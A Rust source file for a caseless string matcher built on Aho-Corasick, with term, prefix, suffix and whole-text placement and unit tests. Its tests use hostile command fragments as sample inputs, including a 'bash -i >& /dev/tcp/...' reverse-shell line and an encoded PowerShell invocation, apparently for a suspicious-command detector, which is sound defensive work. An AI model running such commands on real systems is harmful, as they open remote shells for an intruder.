//! The string operators: terms, prefixes, parts, in both cases.

use std::{borrow::Cow, collections::HashSet, sync::Arc};

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};

/// What an operator looks for in a text.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Place {
    /// Anywhere.
    Contains,
    /// A whole term: no letter or digit on either side.
    Term,
    /// The start of a term.
    TermPrefix,
    /// The end of a term.
    TermSuffix,
    /// The start of the text.
    Start,
    /// The end of the text.
    End,
    /// The whole text.
    Whole,
}

/// Needles that are compared one by one.
const FEW: usize = 24;

/// Needles whose automaton is laid out for speed, not for size.
const DENSE: usize = 100;

/// Looks for any of some needles.
#[derive(Clone, Debug)]
pub struct Matcher {
    place: Place,
    caseless: bool,
    /// Folded where caseless.
    needles: Arc<[String]>,
    automaton: Option<AhoCorasick>,
    whole: Option<HashSet<String>>,
    ascii: bool,
}

impl Matcher {
    /// A matcher of `needles` at `place`.
    pub fn new(place: Place, caseless: bool, needles: impl IntoIterator<Item = String>) -> Self {
        let needles: Arc<[String]> = needles
            .into_iter()
            .map(|needle| {
                if caseless {
                    needle.to_lowercase()
                } else {
                    needle
                }
            })
            .collect();
        let ascii = needles.iter().all(|needle| needle.is_ascii());
        let automaton = match place {
            Place::Contains | Place::Term | Place::TermPrefix | Place::TermSuffix => {
                AhoCorasickBuilder::new()
                    .ascii_case_insensitive(caseless && ascii)
                    .match_kind(MatchKind::Standard)
                    .kind((needles.len() <= DENSE).then_some(AhoCorasickKind::DFA))
                    .build(needles.iter())
                    .ok()
            }
            _ => None,
        };
        let whole = (place == Place::Whole).then(|| needles.iter().cloned().collect());
        Self {
            place,
            caseless,
            needles,
            automaton,
            whole,
            ascii,
        }
    }

    /// Whether `text` has any of the needles at the place.
    pub fn matches(&self, text: &str) -> bool {
        if self.caseless
            && self.ascii
            && let Some(found) = self.plainly(text)
        {
            return found;
        }
        // ASCII needles are found in any text as it is; others need folding.
        let fold = self.caseless && (!self.ascii || self.automaton.is_none());
        let text: Cow<'_, str> = match fold {
            false => Cow::Borrowed(text),
            true if text.is_ascii() && !text.bytes().any(|byte| byte.is_ascii_uppercase()) => {
                Cow::Borrowed(text)
            }
            true => Cow::Owned(text.to_lowercase()),
        };
        match self.place {
            Place::Whole => self
                .whole
                .as_ref()
                .is_some_and(|whole| whole.contains(text.as_ref())),
            Place::Start => self
                .needles
                .iter()
                .any(|needle| text.starts_with(needle.as_str())),
            Place::End => self
                .needles
                .iter()
                .any(|needle| text.ends_with(needle.as_str())),
            Place::Contains => match &self.automaton {
                Some(automaton) => automaton.is_match(text.as_ref()),
                None => self
                    .needles
                    .iter()
                    .any(|needle| text.contains(needle.as_str())),
            },
            Place::Term | Place::TermPrefix | Place::TermSuffix => match &self.automaton {
                Some(automaton) => automaton
                    .find_overlapping_iter(text.as_ref())
                    .any(|found| self.bounded(&text, found.start(), found.end())),
                None => self.needles.iter().any(|needle| {
                    text.match_indices(needle.as_str())
                        .any(|(start, found)| self.bounded(&text, start, start + found.len()))
                }),
            },
        }
    }

    /// The answer where both text and needles are plain ASCII and few, without
    /// a folded copy.
    fn plainly(&self, text: &str) -> Option<bool> {
        if self.needles.len() > FEW {
            return None;
        }
        let bytes = text.as_bytes();
        let part = |needle: &str| match self.place {
            Place::Whole if bytes.len() == needle.len() => Some(bytes),
            Place::Start => bytes.get(..needle.len()),
            Place::End => bytes.get(bytes.len().checked_sub(needle.len())?..),
            _ => None,
        };
        if !matches!(self.place, Place::Whole | Place::Start | Place::End) || !text.is_ascii() {
            return None;
        }
        Some(self.needles.iter().any(|needle| {
            part(needle).is_some_and(|part| part.eq_ignore_ascii_case(needle.as_bytes()))
        }))
    }

    fn bounded(&self, text: &str, start: usize, end: usize) -> bool {
        let before = self.place == Place::TermSuffix || !joined(text, start);
        let after = self.place == Place::TermPrefix || !joined(text, end);
        before && after
    }
}

/// Whether letters or digits stand on both sides of `at`.
fn joined(text: &str, at: usize) -> bool {
    let part = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
    let before = text.get(..at).and_then(|text| text.chars().next_back());
    let after = text.get(at..).and_then(|text| text.chars().next());
    part(before) && part(after)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(text: &str, needle: &str) -> bool {
        Matcher::new(Place::Term, true, [needle.to_owned()]).matches(text)
    }

    #[test]
    fn terms_are_bounded_by_what_is_no_letter_or_digit() {
        assert!(has("cmd.exe /c PowerShell -enc", "powershell"));
        assert!(!has("powershells", "powershell"));
        assert!(!has("xpowershell", "powershell"));
        assert!(has("node_modules/npm/x", "npm"));
        assert!(has("a.b.c", "b.c"));
        assert!(!has("a.b.cd", "b.c"));
        assert!(has("curl http://x", "curl http"));
        assert!(has("bash -i >& /dev/tcp/192.0.2.1/1", "/dev/tcp"));
        assert!(has("xnpm npm", "npm"), "a later, bounded place counts");
        assert!(has("ünpm npm", "NPM"));
    }

    #[test]
    fn places_differ() {
        let at = |place, text: &str| Matcher::new(place, true, ["Ab".to_owned()]).matches(text);
        assert!(at(Place::Contains, "xxabxx"));
        assert!(at(Place::TermPrefix, "x abxx") && !at(Place::TermPrefix, "xabx"));
        assert!(at(Place::TermSuffix, "xxab x") && !at(Place::TermSuffix, "xabx"));
        assert!(at(Place::Start, "ABx") && !at(Place::Start, "xab"));
        assert!(at(Place::End, "xaB") && !at(Place::End, "abx"));
        assert!(at(Place::Whole, "AB") && !at(Place::Whole, "abc"));
        assert!(!Matcher::new(Place::Term, false, ["Ab".to_owned()]).matches("ab"));
    }
}
